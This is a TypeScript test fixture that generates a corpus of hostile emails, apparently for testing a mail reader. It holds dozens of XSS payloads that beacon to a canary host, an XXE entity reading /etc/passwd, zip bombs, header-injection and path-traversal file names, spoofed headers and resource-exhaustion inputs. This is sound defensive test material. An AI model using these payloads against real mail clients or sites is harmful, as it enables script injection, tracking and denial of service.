import { deflateRawSync } from 'node:zlib';
import type { ReadingGap } from '../../src/core/evidence/mail';

/** A mail made to hurt whoever reads it. */
export interface HostileMail {
  readonly name: string;
  /** Its bytes: some are large, so they are made when they are asked for. */
  readonly make: () => Buffer;
  /** A gap that its reading has to name. */
  readonly gap?: ReadingGap;
}

const CRLF = '\r\n';
const HEAD = [
  'From: Somebody <somebody@outside.example>',
  'To: teacher@school.example',
  'Subject: Practice',
  'Date: Mon, 14 Sep 2026 08:00:00 +0000',
  'Message-ID: <hostile@outside.example>',
  'MIME-Version: 1.0',
];

type Extra = readonly string[];
const joined = (...parts: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : p)));
const mail = (type: string, body: string | Buffer, more: Extra = []): Buffer =>
  joined([...HEAD, ...more, `Content-Type: ${type}`, '', ''].join(CRLF), body);
const html = (markup: string): Buffer => mail('text/html; charset=utf-8', markup);
const file = (name: string, type: string, body: Uint8Array, disposition = `attachment; filename="${name}"`): string =>
  [
    `Content-Type: ${type}`,
    `Content-Disposition: ${disposition}`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(body).toString('base64').replace(/.{76}/g, `$&${CRLF}`),
  ].join(CRLF);
const several = (parts: readonly string[], boundary = 'part'): string =>
  [...parts.map((p) => `--${boundary}${CRLF}${p}${CRLF}`), `--${boundary}--${CRLF}`].join('');
const mixed = (...parts: readonly string[]): Buffer => mail('multipart/mixed; boundary=part', several(parts));
const TEXT = `Content-Type: text/plain${CRLF}${CRLF}See the file.`;
const withFile = (name: string, type = 'application/octet-stream', body: Uint8Array = Buffer.from('x')): Buffer =>
  mixed(TEXT, file(name, type, body));

/** Markup that would run something, fetch something or lead somewhere; `to` is an address on the canary. */
function markup(canary: string): Readonly<Record<string, string>> {
  let n = 0;
  const to = (): string => `${canary}/${(n += 1)}`;
  const run = (): string => `new Image().src='${to()}'`;
  return {
    script: `<script>${run()}</script>Hello`,
    'script from elsewhere': `<script src="${to()}"></script>`,
    'script in another case': `<ScRiPt>${run()}</sCrIpT>`,
    'script never closed': `<script>${run()}`,
    'script in pieces': `<scr<script>ipt>${run()}</scr</script>ipt>`,
    'script with a slash': `<script/x>${run()}</script/x>`,
    'script of type module': `<script type="module">import '${to()}'</script>`,
    'script after a null': `<scr\u0000ipt>${run()}</scr\u0000ipt>`,
    'picture that fails': `<img src=x onerror="${run()}">`,
    'picture without quotes': `<img src=x onerror=${run()}>`,
    'picture with back quotes': `<img src=\`x\` onerror=${run()}>`,
    'picture never closed': `<img src=x onerror="${run()}"`,
    'picture named twice': `<img src="${to()}" src="x" onerror='${run()}'>`,
    body: `<body onload="${run()}" background="${to()}">Hello</body>`,
    svg: `<svg onload="${run()}"><circle r="9"/></svg>`,
    'svg script': `<svg><script href="${to()}"></script><script>${run()}</script></svg>`,
    'svg use': `<svg><use href="${to()}#x" xlink:href="data:image/svg+xml,<svg id='x' onload='${run()}'/>"/></svg>`,
    'svg animate': `<svg><a><animate attributeName=href values="javascript:${run()}"/><text>press</text></a></svg>`,
    'svg foreign object': `<svg><foreignObject><iframe src="${to()}"></iframe></foreignObject></svg>`,
    'svg set': `<svg><set attributeName="onmouseover" to="${run()}"/></svg>`,
    math: `<math href="javascript:${run()}"><mtext>press</mtext></math>`,
    'math and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run()}&gt;">`,
    'noscript trick': `<noscript><p title="</noscript><img src=x onerror=${run()}>"></noscript>`,
    'template trick': `<template><img src=x onerror=${run()}></template>`,
    'textarea trick': `<textarea><img src=x onerror=${run()}></textarea>`,
    'title trick': `<title><img src=x onerror=${run()}></title>`,
    'comment trick': `<!--><img src=x onerror=${run()}>-->`,
    'comment never closed': `<!-- <img src=x onerror=${run()}>`,
    'comment for one browser': `<!--[if gte IE 4]><script>${run()}</script><![endif]-->`,
    cdata: `<![CDATA[<img src=x onerror=${run()}>]]>`,
    'processing instruction': `<?xml-stylesheet href="javascript:${run()}"?><?php echo 1 ?>`,
    doctype: `<!DOCTYPE html SYSTEM "${to()}" [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`,
    xmp: `<xmp><img src=x onerror=${run()}></xmp>`,
    plaintext: `<plaintext><img src=x onerror=${run()}>`,
    noembed: `<noembed><img src=x onerror=${run()}></noembed>`,
    iframe: `<iframe src="${to()}"></iframe>`,
    'iframe with its page': `<iframe srcdoc="<script>${run()}</script>"></iframe>`,
    'iframe script': `<iframe src="javascript:${run()}"></iframe>`,
    frameset: `<frameset><frame src="${to()}"></frameset>`,
    object: `<object data="${to()}" type="text/html"></object>`,
    embed: `<embed src="${to()}">`,
    applet: `<applet code="x" codebase="${to()}"></applet>`,
    portal: `<portal src="${to()}"></portal>`,
    form: `<form action="${to()}" method="post"><input name="password" autofocus onfocus="${run()}"><button>Send</button></form>`,
    button: `<button formaction="${to()}">press</button><input type="image" src="${to()}">`,
    isindex: `<isindex action="javascript:${run()}" type="image">`,
    details: `<details open ontoggle="${run()}"><summary>x</summary></details>`,
    dialog: `<dialog open onclose="${run()}">x</dialog>`,
    marquee: `<marquee onstart="${run()}">x</marquee>`,
    video: `<video poster="${to()}" src="${to()}" onloadstart="${run()}"><source src="${to()}" onerror="${run()}"></video>`,
    audio: `<audio autoplay src="${to()}" oncanplay="${run()}"></audio><bgsound src="${to()}">`,
    track: `<video><track src="${to()}" default></video>`,
    picture: `<picture><source srcset="${to()} 2x, ${to()} 1x"><img srcset="${to()} 1x" sizes="1px" src="${to()}"></picture>`,
    'tracking pixel': `<img src="${to()}" width="1" height="1" style="display:none">`,
    'tracking background': `<table background="${to()}"><tr><td background="${to()}" colspan="2" rowspan="999" onclick="${run()}">x</td></tr></table>`,
    'tracking without scheme': `<img src="//canary.example/${(n += 1)}"><img src="\\\\canary.example\\share\\x.png">`,
    'link to fetch ahead': `<link rel="prefetch" href="${to()}"><link rel="dns-prefetch" href="${to()}"><link rel="preconnect" href="${to()}">`,
    'link to a style': `<link rel="stylesheet" href="${to()}"><link rel="icon" href="${to()}">`,
    base: `<base href="${canary}/"><a href="x">press</a><img src="y">`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${to()}">`,
    'meta refresh to a script': `<meta http-equiv="refresh" content="0;url=javascript:${run()}">`,
    'meta policy': `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${to()}">`,
    'meta cookie': `<meta http-equiv="Set-Cookie" content="session=stolen"><meta name="referrer" content="unsafe-url">`,
    'style that imports': `<style>@import "${to()}"; @font-face{font-family:x;src:url(${to()})} body{background:url(${to()})}</style>`,
    'style never closed': `<style>body{background:url(${to()})}`,
    'style of an element': `<p style="background:url('${to()}');position:fixed;top:0;left:0;width:100%;height:100%">covered</p>`,
    'style with a behaviour': `<p style="behavior:url(${to()});-moz-binding:url(${to()});width:expression(${run()})">x</p>`,
    'style that spies': `<style>input[value^="a"]{background:url(${to()})}</style><input value="abc">`,
    'style by escapes': `<p style="b\\61 ckground:u\\72l(${to()})">x</p>`,
    'style image set': `<p style="background-image:image-set('${to()}' 1x);cursor:url(${to()}),auto;list-style:url(${to()})">x</p>`,
    'link to a script': `<a href="javascript:${run()}">press</a>`,
    'link to a script in pieces': `<a href="java\tscr\nipt:${run()}">press</a><a href=" &#1;javascript:x">press</a>`,
    'link to a script by entities': `<a href="&#106;&#97;vascript:${run()}">press</a><a href="javascript&colon;x">press</a>`,
    'link to data': `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">press</a>`,
    'link to a script of old': `<a href="vbscript:msgbox(1)">press</a><a href="livescript:x">press</a>`,
    'link to a file': `<a href="file://canary.example/share/x">press</a><a href="smb://canary.example/x">press</a>`,
    'link to a program': `<a href="ms-msdt:/id x">press</a><a href="search-ms:query=x&crumb=location:\\\\canary.example">press</a>`,
    'link that says another': `<a href="${to()}">https://www.school.example/</a>`,
    'link with a ping': `<a href="#" ping="${to()}" target="_top" onclick="${run()}">press</a>`,
    'link in an area': `<map name="m"><area shape="default" href="${to()}"></map><img usemap="#m">`,
    'xlink in html': `<a xlink:href="${to()}">press</a>`,
    'quote that cites': `<blockquote cite="${to()}">x</blockquote><q cite="javascript:${run()}">x</q><del cite="${to()}">x</del>`,
    'ids and names': `<p id="root" name="cookie" class="fui-Button">x</p><a id="defaultView" name="body"></a>`,
    'hidden text': `<p style="display:none">hidden words</p><p style="font-size:0;color:white">tiny words</p>`,
    'turned around': `<p>\u202egnp.exe\u202c and \u2066left\u2069</p><bdo dir="rtl">fdp.exe</bdo>`,
    'unknown elements': `<x-canary onclick="${run()}">words</x-canary><o:p>office</o:p><v:rect style="behavior:url(#default#VML)" src="${to()}"/>`,
    'namespace trick': `<html xmlns:x="urn:x"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run()}</x:script></html>`,
    'attribute with a slash': `<img/src="x"/onerror="${run()}"><p/onmouseover="${run()}">x</p>`,
    'attribute with a bracket': `<p title="><img src=x onerror=${run()}>">x</p><p title='"><script>${run()}</script>'>x</p>`,
    'tag never closed': `<a href="${to()}" <b>bold</b>`,
    'less than everywhere': '<'.repeat(50_000),
    'tags deep': `${'<div>'.repeat(20_000)}deep${'</div>'.repeat(20_000)}`,
    'tables deep': `${'<table><tr><td>'.repeat(5_000)}deep`,
    'attributes by the thousand': `<p ${Array.from({ length: 20_000 }, (_, i) => `on${i}="${i}"`).join(' ')}>x</p>`,
    'an attribute without end': `<p title="${'x'.repeat(2_000_000)}">x</p>`,
    'entities by the thousand': `<p>${'&amp;lt;script&amp;gt;'.repeat(20_000)}</p>`,
    'entities that are none': `<p>${'&#99999999;&#x0;&#xD800;&nope;'.repeat(1_000)}</p>`,
    'ampersands by the thousand': '&<b>x</b>'.repeat(90_000),
    'two million words': 'word '.repeat(400_000),
  };
}

/** A zip archive of one file of zeros, which is a thousand times as long as it looks. */
function zipBomb(megabytes: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(megabytes << 20));
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(packed.length, 18);
  header.writeUInt32LE(megabytes << 20, 22);
  header.writeUInt16LE(1, 26);
  return joined(header, 'z', packed);
}

/** A multipart whose first part is another, so many times. */
function nested(depth: number): Buffer {
  const open = Array.from(
    { length: depth },
    (_, i) => `--b${i}${CRLF}Content-Type: multipart/mixed; boundary=b${i + 1}${CRLF}${CRLF}`,
  );
  const shut = Array.from({ length: depth }, (_, i) => `--b${depth - i}--${CRLF}`);
  return mail('multipart/mixed; boundary=b0', `${open.join('')}${shut.join('')}`);
}

function mailInMail(depth: number): Buffer {
  let inside = mail('text/html', '<p>innermost<script>x</script></p>');
  for (let i = 0; i < depth; i += 1) inside = mail('message/rfc822', inside);
  return inside;
}

const headers = (more: Extra): Buffer => mail('text/plain', 'Many headers.', more);
const addresses = (n: number): string => Array.from({ length: n }, (_, i) => `p${i}@x.example`).join(',');

const STRUCTURE: readonly HostileMail[] = [
  { name: 'nothing at all', make: () => Buffer.alloc(0), gap: 'no_body' },
  { name: 'one line end', make: () => Buffer.from(CRLF), gap: 'no_body' },
  { name: 'one byte', make: () => Buffer.from('x') },
  { name: 'no header', make: () => Buffer.from(`${CRLF}${CRLF}just a body`) },
  { name: 'headers and no body', make: () => Buffer.from(HEAD.join(CRLF)), gap: 'no_body' },
  { name: 'zeros', make: () => Buffer.alloc(200_000) },
  { name: 'every byte there is', make: () => Buffer.from(Array.from({ length: 65_536 }, (_, i) => i % 256)) },
  { name: 'a picture instead of a mail', make: () => Buffer.from('ffd8ffe000104a46494600', 'hex') },
  { name: 'bare carriage returns', make: () => Buffer.from(`${HEAD.join('\r')}\r\rbody\r`) },
  { name: 'bare line feeds', make: () => Buffer.from(`${HEAD.join('\n')}\nContent-Type: text/html\n\n<b>x</b>\n`) },
  { name: 'parts 40 deep', make: () => nested(40) },
  { name: 'parts 51 deep', make: () => nested(51), gap: 'too_deep' },
  { name: 'parts 1,000 deep', make: () => nested(1_000), gap: 'too_deep' },
  { name: 'parts 5,000 deep', make: () => nested(5_000), gap: 'too_deep' },
  { name: '20,000 parts side by side', make: () => mixed(...Array.from({ length: 20_000 }, () => TEXT)) },
  {
    name: '600 files',
    make: () => mixed(...Array.from({ length: 600 }, (_, i) => file(`${i}.txt`, 'text/x', Buffer.from('x')))),
    gap: 'too_large',
  },
  {
    name: '1,001 headers',
    make: () => headers(Array.from({ length: 1_001 }, (_, i) => `X-${i}: ${i}`)),
    gap: 'headers_too_many',
  },
  {
    name: '200,000 headers',
    make: () => headers(Array.from({ length: 200_000 }, (_, i) => `X-${i}: ${i}`)),
    gap: 'headers_too_many',
  },
  {
    name: '200,000 headers in a part',
    make: () => mixed(`${Array.from({ length: 200_000 }, (_, i) => `X-${i}: ${i}`).join(CRLF)}${CRLF}${CRLF}x`),
    gap: 'headers_too_many',
  },
  { name: 'a header of 100 KB', make: () => headers([`X-Long: ${'x'.repeat(100_000)}`]), gap: 'headers_too_many' },
  { name: 'a header without end', make: () => Buffer.alloc(2 << 20, 'X-Long: xxxx '), gap: 'headers_too_many' },
  { name: 'a header folded 5,000 times', make: () => headers([`X-Fold: a${`${CRLF} b`.repeat(5_000)}`]) },
  {
    name: 'no space before the colon',
    make: () => headers(['X : y', ': nameless', 'no colon at all', 'X:', '\u0000: x']),
  },
  { name: 'four thousand addresses', make: () => headers([`Cc: ${addresses(4_000)}`]) },
  { name: 'sixty thousand addresses', make: () => headers([`From: ${addresses(60_000)}`]), gap: 'headers_too_many' },
  {
    name: 'brackets within brackets',
    make: () => headers([`Cc: ${'('.repeat(30_000)}x@x.example${')'.repeat(30_000)}`]),
  },
  { name: 'quotes without end', make: () => headers([`Cc: "${'\\"'.repeat(20_000)}`]) },
  {
    name: 'groups within groups',
    make: () => headers([`Cc: ${'a:'.repeat(10_000)}x@x.example${';'.repeat(10_000)}`]),
  },
  { name: 'encoded words by the thousand', make: () => headers([`Subject: ${'=?utf-8?B?w6k=?= '.repeat(3_000)}`]) },
  { name: 'encoded words that are none', make: () => headers([`Subject: ${'=?=?=?utf-8?X?=??='.repeat(2_000)}`]) },
  { name: 'a header smuggled in a word', make: () => headers([`Subject: =?utf-8?Q?x=0D=0ABcc:=20y@y.example?=`]) },
  {
    name: 'markup in the subject',
    make: () => headers(['Subject: <img src=x onerror=alert(1)>', 'From: "<script>" <a@b.example>']),
  },
  { name: 'a subject turned around', make: () => headers(['Subject: =?utf-8?B?4oCuZ3BqLmV4ZQ==?=']) },
  {
    name: 'a sender that looks like another',
    make: () => headers(['From: "head@school.example" <x@evil.example>', 'From: second@x.example']),
  },
  { name: 'a date that is none', make: () => headers(['Date: 99 Foo 99999 99:99:99 +9999']) },
  {
    name: 'a parameter in 5,000 pieces',
    make: () =>
      mixed(
        TEXT,
        `Content-Type: text/x${Array.from({ length: 5_000 }, (_, i) => `; name*${i}=x`).join('')}${CRLF}${CRLF}x`,
      ),
  },
  { name: 'a boundary never closed', make: () => mail('multipart/mixed; boundary=part', `--part${CRLF}${TEXT}`) },
  { name: 'a boundary that never comes', make: () => mail('multipart/mixed; boundary=never', 'just text') },
  { name: 'no boundary', make: () => mail('multipart/mixed', `--part${CRLF}${TEXT}${CRLF}--part--`) },
  { name: 'an empty boundary', make: () => mail('multipart/mixed; boundary=""', `--${CRLF}${TEXT}${CRLF}----`) },
  {
    name: 'a boundary of signs',
    make: () => mail('multipart/mixed; boundary="(.*)+[^$"', `--(.*)+[^$${CRLF}${TEXT}${CRLF}--(.*)+[^$--`),
  },
  {
    name: 'one boundary for all',
    make: () =>
      mail(
        'multipart/mixed; boundary=part',
        several([`Content-Type: multipart/mixed; boundary=part${CRLF}${CRLF}--part${CRLF}${TEXT}`]),
      ),
  },
  {
    name: 'a boundary of 60,000 signs',
    make: () => mail(`multipart/mixed; boundary=${'b'.repeat(60_000)}`, `--${'b'.repeat(60_000)}${CRLF}${TEXT}`),
  },
  {
    name: '100,000 lines like boundaries',
    make: () => mail('multipart/mixed; boundary=part', `--par${CRLF}`.repeat(100_000)),
  },
  { name: 'a wrong length', make: () => mail('text/plain', 'short', ['Content-Length: 999999999']) },
  { name: 'a negative length', make: () => mail('text/plain', 'short', ['Content-Length: -1', 'Lines: 1e99']) },
  { name: 'two types', make: () => mail('text/html', '<b>x</b>', ['Content-Type: text/plain']) },
  { name: 'a type that is none', make: () => mail('<script>/../x; charset="', 'x') },
  {
    name: 'an encoding that is none',
    make: () => mail('text/plain', 'x', ['Content-Transfer-Encoding: uuencode-gzip']),
  },
  {
    name: 'broken base64',
    make: () => mail('text/html', '====PHNjcmlwdD5\u0000x!!!=A', ['Content-Transfer-Encoding: base64']),
  },
  {
    name: 'base64 twice',
    make: () =>
      mail('text/html', Buffer.from(Buffer.from('<script>x</script>').toString('base64')).toString('base64'), [
        'Content-Transfer-Encoding: base64',
      ]),
  },
  {
    name: 'broken quoted-printable',
    make: () =>
      mail('text/html', '=3Cscript=3Ex=3C/script=3E=\r\n=ZZ=', ['Content-Transfer-Encoding: quoted-printable']),
  },
  { name: 'utf-7', make: () => mail('text/html; charset=utf-7', '+ADw-script+AD4-x+ADw-/script+AD4-') },
  {
    name: 'utf-16',
    make: () => mail('text/html; charset=utf-16', Buffer.from('\ufeff<script>x</script>', 'utf16le')),
  },
  { name: 'a charset that is none', make: () => mail('text/html; charset=klingon', '<b>x</b>') },
  {
    name: 'a charset that says another',
    make: () => mail('text/html; charset=utf-8', Buffer.from([0x3c, 0xe9, 0xff, 0x62, 0x3e, 0xc0, 0xbc])),
  },
  {
    name: 'charsets that change',
    make: () => mail('text/html; charset=iso-2022-jp', Buffer.from('\u001b$B<script>\u001b(Bx')),
  },
  {
    name: 'charsets mixed',
    make: () =>
      mixed(
        ...['utf-8', 'iso-8859-1', 'koi8-r', 'gb18030'].map(
          (c) => `Content-Type: text/html; charset=${c}${CRLF}${CRLF}<b>\u00e9\u0416</b>`,
        ),
      ),
  },
  { name: 'a zip of 200 MB', make: () => withFile('holiday.zip', 'application/zip', zipBomb(200)) },
  { name: 'a zip in a zip', make: () => withFile('a.zip', 'application/zip', joined(zipBomb(20), zipBomb(20))) },
  {
    name: 'gzip as its encoding',
    make: () => mail('text/plain', deflateRawSync(Buffer.alloc(10 << 20)), ['Content-Encoding: deflate']),
  },
  ...[
    '../../../etc/passwd',
    '..\\..\\windows\\system32\\x.dll',
    '/etc/shadow',
    'C:\\x.exe',
    'CON',
    'nul.txt',
    '.htaccess',
    'x.txt:stream',
    ' . . ',
    'a'.repeat(5_000) + '.txt',
    '\u202egpj.exe',
    'x\u0000.txt',
    '<img src=x onerror=alert(1)>.html',
    'x.txt\u00ad\u200b.exe',
  ].map((name) => ({ name: `a file called ${JSON.stringify(name).slice(0, 40)}`, make: () => withFile(name) })),
  { name: 'a file name turned around', make: () => withFile('=?utf-8?B?4oCuZ3BqLmV4ZQ==?=') },
  {
    name: 'a file name in percent',
    make: () => mixed(TEXT, file('', 'text/x', Buffer.from('x'), `attachment; filename*=utf-8''..%2f..%2fx%00.sh`)),
  },
  {
    name: 'tnef',
    make: () => withFile('winmail.dat', 'application/ms-tnef', Buffer.from('789f3e22', 'hex')),
    gap: 'tnef',
  },
  { name: 'tnef by name only', make: () => withFile('WINMAIL.DAT'), gap: 'tnef' },
  {
    name: 's/mime, encrypted',
    make: () => mail('application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m', 'MIAG'),
    gap: 'encrypted',
  },
  {
    name: 's/mime, signed as a lump',
    make: () => mail('application/pkcs7-mime; smime-type=signed-data; name=smime.p7m', 'MIAG'),
    gap: 'unreadable',
  },
  {
    name: 's/mime, signed beside',
    make: () =>
      mail(
        'multipart/signed; boundary=part; protocol="application/pkcs7-signature"',
        several([TEXT, file('smime.p7s', 'application/pkcs7-signature', Buffer.from('MIAG'))]),
      ),
  },
  {
    name: 'pgp',
    make: () =>
      mail(
        'multipart/encrypted; boundary=part; protocol="application/pgp-encrypted"',
        several([
          file('v', 'application/pgp-encrypted', Buffer.from('Version: 1')),
          file('e.asc', 'application/octet-stream', Buffer.from('----')),
        ]),
      ),
    gap: 'encrypted',
  },
  {
    name: 'a protected mail',
    make: () => mixed(TEXT, file('message.rpmsg', 'application/x-microsoft-rpmsg-message', Buffer.from('x'))),
    gap: 'protected',
  },
  {
    name: 'a calendar',
    make: () =>
      mail(
        'text/calendar; method=REQUEST',
        `BEGIN:VCALENDAR${CRLF}BEGIN:VEVENT${CRLF}ATTACH:https://canary.example/ics${CRLF}DESCRIPTION:<script>x</script>${CRLF}END:VEVENT${CRLF}END:VCALENDAR`,
      ),
    gap: 'calendar',
  },
  { name: 'a mail in a mail', make: () => mailInMail(2) },
  { name: 'mails 4 deep', make: () => mailInMail(4), gap: 'nested_mail_not_opened' },
  { name: 'mails 100 deep', make: () => mailInMail(100), gap: 'nested_mail_not_opened' },
  {
    name: 'a mail as a file',
    make: () =>
      mixed(
        TEXT,
        `Content-Type: message/rfc822${CRLF}Content-Disposition: attachment${CRLF}${CRLF}${html('<script>x</script>').toString()}`,
      ),
    gap: 'nested_mail_not_opened',
  },
  {
    name: 'a report of a bounce',
    make: () =>
      mail(
        'multipart/report; boundary=part; report-type=delivery-status',
        several([
          TEXT,
          `Content-Type: message/delivery-status${CRLF}${CRLF}Action: failed`,
          `Content-Type: message/rfc822${CRLF}${CRLF}${mail('text/plain', 'x').toString()}`,
        ]),
      ),
  },
  { name: 'a mail in pieces', make: () => mail('message/partial; id=x; number=1; total=9', 'x') },
  {
    name: 'a body elsewhere',
    make: () =>
      mail(
        'message/external-body; access-type=URL; URL="https://canary.example/body"',
        `Content-Type: text/html${CRLF}${CRLF}`,
      ),
  },
  {
    name: 'html from elsewhere',
    make: () =>
      mail('text/html', '<p>x</p>', [
        'Content-Location: https://canary.example/',
        'Content-Base: https://canary.example/',
      ]),
  },
  {
    name: 'pictures of its own',
    make: () =>
      mail(
        'multipart/related; boundary=part',
        several([
          `Content-Type: text/html${CRLF}${CRLF}<img src="cid:a"><img src="https://canary.example/x">`,
          file('a.svg', 'image/svg+xml', Buffer.from('<svg onload="x"/>'), 'inline; filename=a.svg').replace(
            'Content-T',
            `Content-ID: <a>${CRLF}Content-T`,
          ),
        ]),
      ),
  },
  {
    name: 'a hundred bodies',
    make: () =>
      mail(
        'multipart/alternative; boundary=part',
        several(Array.from({ length: 100 }, (_, i) => `Content-Type: text/html${CRLF}${CRLF}<b onclick=x>${i}</b>`)),
      ),
  },
  { name: 'a body of one line of 5 MB', make: () => mail('text/plain', 'x'.repeat(5 << 20)), gap: 'too_large' },
  { name: 'five million empty lines', make: () => mail('text/plain', '\n'.repeat(5_000_000)), gap: 'too_large' },
  {
    name: 'receipt of our own making',
    make: () =>
      headers([
        'Authentication-Results: school.example; spf=pass; dkim=pass header.d=head.example',
        'X-Forefront-Antispam-Report: SCL:-1',
      ]),
  },
  {
    name: 'a thousand signatures',
    make: () =>
      headers(
        Array.from(
          { length: 900 },
          (_, i) => `DKIM-Signature: v=1; a=rsa-sha256; d=d${i}.example; s=s; h=from; bh=AAAA; b=AAAA`,
        ),
      ),
  },
  {
    name: 'just under the largest',
    make: () => mail('application/octet-stream', Buffer.alloc((72 << 20) - 400, 'x'.repeat(76) + CRLF)),
  },
  { name: 'just over the largest', make: () => Buffer.alloc((72 << 20) + 1, 'X: y\r\n'), gap: 'too_large' },
];

/**
 * All of them. `canary` is where whatever they would fetch or open leads to, an address without a path; each has a number
 * of its own behind it.
 */
export const hostileMails = (canary = 'https://canary.example'): readonly HostileMail[] => [
  ...Object.entries(markup(canary)).map(([name, body]) => ({ name, make: () => html(body) })),
  ...STRUCTURE,
];
